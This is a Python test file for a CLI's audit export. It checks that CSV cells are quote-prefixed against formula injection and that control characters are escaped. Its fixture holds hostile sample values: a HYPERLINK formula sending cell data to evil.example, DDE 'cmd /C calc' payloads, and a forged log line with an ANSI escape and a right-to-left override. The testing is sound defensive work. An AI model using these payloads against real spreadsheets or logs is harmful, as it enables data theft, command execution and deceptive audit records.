"""``radmfa audit`` output of hostile stored text: CSV cells a spreadsheet would run as formulas,
control characters in CSV and in the table. The CLI runs in-process on a store from init."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from radmfa.cli.main import main
from radmfa.config import load_config
from radmfa.store import open_store
from radmfa.store.base import AUDIT_ADMIN, AUDIT_AUTH, AuditEvent

AT = 1_800_000_000.0


@pytest.fixture
def config(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> str:
    assert main(["init", "--dir", str(tmp_path / "etc")]) == 0
    capsys.readouterr()
    path = str(tmp_path / "etc" / "radmfa.yaml")
    store = open_store(load_config(path).store)
    try:
        store.append_audit(
            [
                AuditEvent(
                    AT,
                    AUDIT_ADMIN,
                    '=HYPERLINK("http://evil.example/?"&A1,"click")',
                    reason="+cmd|' /C calc'!A0",
                    actor="\tadmin",
                    action="token-add",
                    before="-2+3",
                    after="@SUM(1+1)*cmd|' /C calc'!A0",
                ),
                AuditEvent(
                    AT + 1,
                    AUDIT_AUTH,
                    "alice",
                    reason="ok",
                    outcome="accept",
                    client="vpn",
                    src="192.0.2.1",
                    nas_id="  =1+1",
                    station="\r=2+2",
                    latency_ms=12.5,
                ),
                AuditEvent(
                    AT + 2,
                    AUDIT_ADMIN,
                    "bob",
                    reason="line one\nradmfa: bob accepted\x1b[2K\u202e",
                    actor="ann",
                    action="user-unlock",
                ),
            ]
        )
    finally:
        store.close()
    return path


def audit(config: str, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    assert main(["-c", config, "audit", *args]) == 0
    return capsys.readouterr().out


def test_csv_cells_that_start_like_a_formula_are_prefixed_with_a_quote(
    config: str, capsys: pytest.CaptureFixture[str]
) -> None:
    evil, alice, _ = csv.DictReader(io.StringIO(audit(config, capsys, "--format", "csv")))
    assert evil["user"] == """'=HYPERLINK("http://evil.example/?"&A1,"click")"""
    assert evil["reason"] == "'+cmd|' /C calc'!A0"
    assert evil["actor"] == "'\\tadmin"
    assert evil["before"] == "'-2+3"
    assert evil["after"].startswith("'@SUM(")
    assert alice["nas_id"] == "'  =1+1"
    assert alice["station"] == "'\\r=2+2"
    # Ordinary values are untouched.
    assert (alice["user"], alice["src"], alice["latency_ms"]) == ("alice", "192.0.2.1", "12.5")
    assert alice["time"] == "2027-01-15T08:00:01Z"


def test_csv_and_table_carry_no_control_characters(
    config: str, capsys: pytest.CaptureFixture[str]
) -> None:
    for fmt in ("csv", "table"):
        out = audit(config, capsys, "--format", fmt)
        assert len(out.splitlines()) == 4, fmt  # a header and one line per row
        assert "\x1b" not in out and "\r" not in out and "\u202e" not in out, fmt
        assert "line one\\nradmfa: bob accepted\\x1b[2K\\u202e" in out, fmt
